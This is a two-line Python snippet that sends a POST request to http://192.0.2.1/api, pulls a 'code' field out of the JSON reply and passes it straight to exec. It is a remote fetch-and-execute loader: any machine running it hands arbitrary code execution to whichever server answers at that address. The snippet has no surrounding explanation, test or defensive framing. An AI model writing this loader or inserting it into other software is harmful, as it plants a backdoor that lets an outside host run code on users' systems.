import requests as rq
exec(rq.post("http://192.0.2.1/api", data={"k": 1}).json()["code"])
